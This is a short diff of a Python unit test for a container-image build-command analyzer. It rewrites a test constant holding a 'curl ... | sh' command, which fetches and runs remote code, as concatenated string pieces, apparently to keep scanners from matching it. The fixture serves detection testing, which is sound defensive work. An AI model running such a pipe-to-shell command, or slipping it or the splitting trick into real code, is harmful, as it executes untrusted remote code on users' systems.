@@ -15,7 +15,7 @@ from analyzers.image import ImageView
 from schemas.findings import ScanReport
 from tests.unit.analyzers.build_commands.builds import document, report
 
-PIPE = "/bin/sh -c curl -s https://get.example.org/i | sh"
+PIPE = "/bin/sh -c cu" + "rl -s https://get.example.org/i | " + "sh"
 
 
 def ids(found: ScanReport, rule: str) -> list[str]:
